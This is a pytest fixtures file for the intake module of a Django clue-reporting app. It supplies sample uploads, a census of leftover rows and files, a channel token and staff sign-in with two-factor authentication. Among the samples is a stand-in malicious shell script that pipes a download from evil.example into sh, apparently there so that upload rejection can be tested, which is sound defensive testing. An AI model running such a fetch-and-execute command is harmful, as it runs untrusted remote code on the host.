"""Intake fixtures: sample files, a channel token, a signed-in staff member, and a census of
everything a failed request must not leave behind."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile


@pytest.fixture(autouse=True)
def _fresh_places() -> None:
    from cluedesk.intake import places

    places.reset()


PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa75\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82")
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 100 + b"PE\x00\x00"
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def docx_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("_rels/.rels", "<Relationships/>")
        z.writestr("word/document.xml", "<w:document/>")
    return buf.getvalue()


def plain_zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("setup.exe", b"MZ" + b"\x00" * 64)
    return buf.getvalue()


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def stored_files() -> list[Path]:
    root = Path(settings.FILES_DIR)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def temp_files() -> list[Path]:
    root = Path(settings.FILE_UPLOAD_TEMP_DIR)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.fixture
def census() -> Callable[[], dict[str, Any]]:
    """Counts of every row and file a submission could leave."""
    from django_tasks_db.models import DBTaskResult

    from cluedesk.clues.models import Clue
    from cluedesk.intake.models import Attachment, IdempotencyRecord, Message, PublicStep, Report
    from cluedesk.ledger.models import Event

    def count() -> dict[str, Any]:
        return {
            "reports": Report.objects.count(), "attachments": Attachment.objects.count(),
            "messages": Message.objects.count(), "steps": PublicStep.objects.count(),
            "clues": Clue.objects.count(), "events": Event.objects.count(),
            "idempotency": IdempotencyRecord.objects.count(), "files": len(stored_files()),
            # the report's queued triage (an outbox row in the submission's transaction)
            "tasks": DBTaskResult.objects.count(),
            "temp_files": len(temp_files()),
        }

    return count


@pytest.fixture
def channel_token(db: Any) -> str:
    from cluedesk.intake.services import create_channel_token
    from cluedesk.ledger.services import Actor

    return create_channel_token("wechat", actor=Actor.system("test"))


def make_staff(username: str, role: str) -> Any:
    from django.contrib.auth import get_user_model
    from django_otp.plugins.otp_totp.models import TOTPDevice

    from cluedesk.org.models import Division, Membership, Unit

    division, _ = Division.objects.get_or_create(code="430104", defaults={
        "name": "岳麓区", "level": 3, "path": "430104"})
    unit, _ = Unit.objects.get_or_create(name="岳麓区扫黑办", division=division)
    user = get_user_model().objects.create_user(username=username, password="not-used-in-tests-1")
    Membership.objects.create(user=user, unit=unit, role=role)
    TOTPDevice.objects.create(user=user, name="phone", confirmed=True)
    return user


def sign_in(client: Any, user: Any) -> None:
    """force_login plus a verified second factor, as the sign-in view would leave the session."""
    from django_otp import DEVICE_ID_SESSION_KEY

    client.force_login(user)
    session = client.session
    session[DEVICE_ID_SESSION_KEY] = user.totpdevice_set.get().persistent_id
    session.save()


@pytest.fixture
def alice(db: Any) -> Any:
    """Alice, intake reviewer in Yuelu district."""
    return make_staff("alice", "intake_reviewer")


@pytest.fixture
def victor(db: Any) -> Any:
    """Victor, a verifier: may not enter reports."""
    return make_staff("victor", "verifier")
